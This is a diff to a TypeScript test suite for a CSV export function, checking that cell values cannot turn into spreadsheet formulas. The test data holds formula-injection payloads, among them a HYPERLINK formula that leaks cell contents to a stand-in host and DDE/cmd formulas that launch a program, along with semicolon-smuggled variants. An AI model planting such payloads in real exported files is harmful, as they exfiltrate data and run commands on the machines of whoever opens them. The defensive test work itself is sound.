@@ -6,18 +6,25 @@ import { toCsvLine } from './csv.ts'
 
 const read = (text: string): string[][] => parse(text, { relaxColumnCount: true }) as string[][]
 
+const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
+/** As a program reads a cell that takes semicolons and line breaks for the ends of cells: none of them is there any more. */
+const asWithSemicolons = (cell: string): string[] => cell.split(/[;\r\n]/)
+/** Without the apostrophes that may have been put in. */
+const plain = (text: string | undefined) => text?.replaceAll("'", '')
+
 test('T6 no cell of somebody’s words is a formula, in whatever way it begins', () => {
   const attacks = [
     ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
     ...['=HYPERLINK("http://evil.test?"&A1,"Click")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
+    ...['x;=1+1;y', "x;=cmd|'/C calc'!A0;", 'x\n=1+1', 'a;;+1', ';\t=1'],
     ...['"=1+1"', '=1+1";=1+1', '=1+1,=1+1', "'=1+1"],
   ]
   for (const attack of attacks) {
     const rows = read(toCsvLine(['before', attack, 'behind']))
     assert.equal(rows.length, 1, attack)
     assert.equal(rows[0]?.length, 3, attack)
-    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/, attack)
-    assert.ok(rows[0]?.[1]?.endsWith(attack), 'what was said is there')
+    for (const part of rows.flat().flatMap(asWithSemicolons)) assert.doesNotMatch(part, FORMULA, attack)
+    assert.equal(plain(rows[0]?.[1]), plain(attack), 'what was said is there')
   }
 })
 
@@ -31,11 +38,8 @@ test('T6 whatever the cells hold, a reader finds as many, with the same words', 
       const rows = read(toCsvLine(['first', ...cells]))
       assert.equal(rows.length, 1)
       const [, ...found] = rows[0] ?? []
-      assert.deepEqual(
-        found.map((one, i) => (one === `'${cells[i]}` ? cells[i] : one)),
-        cells,
-      )
-      for (const one of found) assert.doesNotMatch(one, /^[=+\-@\t\r\n＝＋－＠]/)
+      assert.deepEqual(found.map(plain), cells.map(plain))
+      for (const part of found.flatMap(asWithSemicolons)) assert.doesNotMatch(part, FORMULA)
     }),
   )
 })
